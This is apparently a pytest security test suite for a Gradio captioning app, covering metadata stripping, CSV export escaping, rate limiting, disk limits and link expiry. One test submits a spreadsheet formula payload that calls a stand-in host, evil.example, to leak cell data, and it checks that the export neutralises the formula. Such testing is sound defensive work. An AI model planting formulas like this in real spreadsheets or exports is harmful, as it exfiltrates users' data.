"""Issue 11: the running app attacked through ``gradio_client`` and plain HTTP, one test per point.

(Operator sessions and login lockout, items 3-4, are tested with the accounts work.)
"""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from PIL import Image
from sqlalchemy import select
from sqlalchemy.orm import Session

from feedback_db.models import Prediction, Upload
from tests.app.conftest import PHOTOS, start_app

pytestmark = pytest.mark.server

METADATA_MARKERS = (b"Exif", b"xmpmeta", b"PhoneCo", b"secret-place")


def gps_of(data: bytes) -> dict:
    with Image.open(io.BytesIO(data)) as im:
        return dict(im.getexif().get_ifd(0x8825))


def jpeg_with_gps(path, *, orientation: int = 6):
    """A phone-style photo: EXIF with GPS and an orientation tag, XMP and a comment."""
    with Image.open(PHOTOS / "chelsea.jpg") as photo:
        image = photo.convert("RGB").resize((120, 80))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneCo"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    image.save(path, "JPEG", exif=exif.tobytes(), xmp=b"<x:xmpmeta>secret-place</x:xmpmeta>",
               comment=b"secret-place")
    return path


def export_zip(client, fmt: str) -> zipfile.ZipFile:
    archive = client.predict(fmt, api_name="/operator_export")
    return zipfile.ZipFile(archive.get("value", archive)["path"])


def test_a_jpeg_with_gps_has_none_after_upload_and_in_exports(running_app, tmp_path):
    photo = jpeg_with_gps(tmp_path / "phone.jpg")
    assert all(marker in photo.read_bytes() for marker in METADATA_MARKERS) and gps_of(photo.read_bytes())
    client = running_app.client()
    details = client.predict(handle_file(str(photo)), "", api_name="/caption")[4]
    with Session(running_app.engine) as s:
        upload = s.get(Upload, s.get(Prediction, details["prediction_id"]).image_sha256)
        relpath, width, height = upload.relpath, upload.width, upload.height
    stored = running_app.blobstore.path(relpath).read_bytes()
    assert not [m for m in METADATA_MARKERS if m in stored] and gps_of(stored) == {}
    with Image.open(io.BytesIO(stored)) as im:
        assert im.size == (80, 120) and not im.getexif()  # orientation 6 applied to the pixels, tag gone
    assert (width, height) == (120, 80)  # the row keeps the size as uploaded

    client = running_app.operator_client()  # the server-issued login cookie
    for fmt in ("csv", "jsonl"):
        with export_zip(client, fmt) as zf:
            images = [n for n in zf.namelist() if "/images/" in n and not n.endswith("/")]
            assert images
            for name in images:
                data = zf.read(name)
                assert not [m for m in METADATA_MARKERS if m in data] and gps_of(data) == {}, name


def test_a_formula_in_a_corrected_caption_is_neutralised_in_the_csv_export(running_app):
    client = running_app.client()
    client.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    client.predict(4, 4, 4, formula, "@SUM(A1:A9)", "", api_name="/rate_caption")
    client = running_app.operator_client()
    with export_zip(client, "csv") as zf:
        name = next(n for n in zf.namelist() if n.endswith("feedback.csv"))
        rows = list(csv.DictReader(io.TextIOWrapper(zf.open(name), encoding="utf-8", newline="")))
    cells = [row["corrected_caption"] for row in rows if row["corrected_caption"]]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_a_request_id_taken_by_another_client_echoes_nothing_of_theirs(running_app):
    owner, intruder = running_app.client(), running_app.client()
    key = "guessable-key-1"
    mine = owner.predict(handle_file(str(PHOTOS / "chelsea.jpg")), key, api_name="/caption")[4]
    other_photo = next(p for p in sorted(PHOTOS.glob("*.jpg")) if p.name != "chelsea.jpg")
    with pytest.raises(AppError) as refused:
        intruder.predict(handle_file(str(other_photo)), key, api_name="/caption")
    message = str(refused.value)
    assert "already taken" in message
    with Session(running_app.engine) as s:
        sha = s.scalar(select(Prediction.image_sha256).where(Prediction.request_id == key))
    assert sha not in message and "caption" not in message.replace("/caption", "")
    again = owner.predict(handle_file(str(PHOTOS / "chelsea.jpg")), key, api_name="/caption")[4]
    assert again["prediction_id"] == mine["prediction_id"]  # the owner's retry is still idempotent


# ---- item 2: per-client limits, queue size, disk watermark ---------------------------------------

def small_png(tmp_path) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(buf, "PNG")
    return buf.getvalue()


@pytest.fixture
def proxied_app(predictor, app_home, tmp_path_factory):
    """An app behind a (pretend) reverse proxy on 127.0.0.1, so each test client can carry its own address."""
    from tests.app.conftest import module_home

    running = start_app(module_home(app_home, tmp_path_factory), predictor, trusted_proxies="127.0.0.1")
    yield running
    running.demo.close()
    running.engine.dispose()


def test_500_uploads_from_one_client_hit_the_limit_while_another_client_is_served(proxied_app, tmp_path):
    import httpx

    budget = proxied_app.config.app
    png = small_png(tmp_path)
    statuses = []
    with httpx.Client(base_url=proxied_app.url, headers={"X-Forwarded-For": "203.0.113.7"}, timeout=30) as http:
        for i in range(500):
            response = http.post("/gradio_api/upload", files={"files": (f"f{i}.png", png, "image/png")})
            statuses.append(response.status_code)
        refused = response
    assert set(statuses) == {200, 429}
    first_refused = statuses.index(429)
    assert budget.upload_burst <= first_refused <= budget.upload_burst + 10  # the burst, plus what refilled
    assert statuses.count(200) < budget.upload_burst + 20
    assert "too many uploads" in refused.json()["error"] and refused.headers["retry-after"]

    # the same address through gradio_client is refused too; another address is served
    flooder = Client(proxied_app.url, verbose=False, headers={"X-Forwarded-For": "203.0.113.7"})
    with pytest.raises(Exception):
        flooder.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")
    other = Client(proxied_app.url, verbose=False, headers={"X-Forwarded-For": "198.51.100.9"})
    details = other.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")[4]
    assert details["prediction_id"]

    # no address is kept: buckets are keyed by an HMAC, and nothing under the home mentions it
    guard = proxied_app.demo.client_guard
    keys = repr(list(guard.limiter._buckets))
    assert "203.0.113.7" not in keys and "198.51.100.9" not in keys
    for path in proxied_app.home.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert b"203.0.113.7" not in path.read_bytes(), path


def test_the_queue_has_a_maximum_size(running_app):
    assert running_app.demo._queue.max_size == running_app.config.app.queue_max_size > 0


def test_below_the_disk_watermark_uploads_are_refused_and_ratings_still_saved(predictor, app_home, tmp_path_factory):
    from tests.app.conftest import module_home

    free = {"bytes": 50 * 2**30}
    running = start_app(module_home(app_home, tmp_path_factory), predictor,
                        build_options={"free_space": lambda path: free["bytes"]}, min_free_disk_mb=1024)
    try:
        client = running.client()
        details = client.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")[4]
        n_blobs = len(list((running.home / "uploads").rglob("*.*")))
        free["bytes"] = 100 * 2**20  # 100 MB left, watermark 1 GB
        with pytest.raises(Exception) as refused:
            client.predict(handle_file(str(PHOTOS / "coffee.jpg")), "", api_name="/caption")
        assert "low on disk space" in str(refused.value) or "507" in str(refused.value)
        import httpx

        response = httpx.post(f"{running.url}gradio_api/upload", files={"files": ("x.png", small_png(None))})
        assert response.status_code == 507 and "low on disk space" in response.json()["error"]
        status = client.predict(4, 5, 3, "a cat on a rug", "still saved", "", api_name="/rate_caption")
        assert "Saved" in status
        assert len(list((running.home / "uploads").rglob("*.*"))) == n_blobs
        free["bytes"] = 50 * 2**30
        assert client.predict(handle_file(str(PHOTOS / "coffee.jpg")), "", api_name="/caption")[4]["prediction_id"] > \
            details["prediction_id"]
    finally:
        running.demo.close()
        running.engine.dispose()


@pytest.fixture
def small_tmpfs(tmp_path):
    """A 48 MB tmpfs, when this machine lets us mount one (root in a container); else the test is skipped."""
    import subprocess

    mount = tmp_path / "tmpfs"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.decode().strip()}); the simulated test covers it")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def test_disk_watermark_on_a_real_small_tmpfs(predictor, app_home, small_tmpfs):
    home = small_tmpfs / "home"
    home.mkdir()
    for shared in ("models", "cache"):
        (home / shared).symlink_to(app_home / shared, target_is_directory=True)
    running = start_app(home, predictor, min_free_disk_mb=16)
    try:
        client = running.client()
        client.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")
        ballast = home / "ballast.bin"
        with ballast.open("wb") as fh:  # fill the disk to ~10 MB free
            free = __import__("shutil").disk_usage(home).free
            fh.write(b"\0" * (free - 10 * 2**20))
        with pytest.raises(Exception):
            client.predict(handle_file(str(PHOTOS / "coffee.jpg")), "", api_name="/caption")
        assert "Saved" in client.predict(5, 5, 5, "a cat", "on a full disk", "", api_name="/rate_caption")
        ballast.unlink()
        assert client.predict(handle_file(str(PHOTOS / "coffee.jpg")), "", api_name="/caption")[4]["prediction_id"]
    finally:
        running.demo.close()
        running.engine.dispose()


# ---- item 8: export and report links expire ------------------------------------------------------

def test_export_links_expire(running_app):
    import os
    import time

    import httpx

    exports = running_app.config.paths.exports
    client = running_app.operator_client()
    before = set(exports.iterdir()) if exports.is_dir() else set()
    client.predict("csv", api_name="/operator_export")
    (folder,) = set(exports.iterdir()) - before  # one random folder per export
    (archive,) = folder.glob("*.zip")
    link = f"{running_app.url}gradio_api/file={archive}"  # what an allowed_paths link to it looks like
    assert httpx.get(link).status_code == 200
    old = time.time() - running_app.config.app.export_ttl_s - 1
    os.utime(folder, (old, old))
    client.predict("jsonl", api_name="/operator_export")  # any new link sweeps expired ones (so does the scheduler)
    assert not folder.exists() and len(list(exports.iterdir())) >= 1
    assert httpx.get(link).status_code in (403, 404)


def test_a_result_whose_image_retention_deleted_asks_for_a_new_upload(running_app, meme_path):
    client = running_app.client()
    details = client.predict(handle_file(str(meme_path)), True, True, "", api_name="/analyze_meme")[5]
    with Session(running_app.engine) as s:
        relpath = s.get(Upload, s.get(Prediction, details["prediction_id"]).image_sha256).relpath
    running_app.blobstore.path(relpath).unlink()  # what purge_unrated_uploads does after the retention time
    with pytest.raises(AppError, match="no longer stored"):
        client.predict("edited text", True, True, "", api_name="/reanalyze_meme")
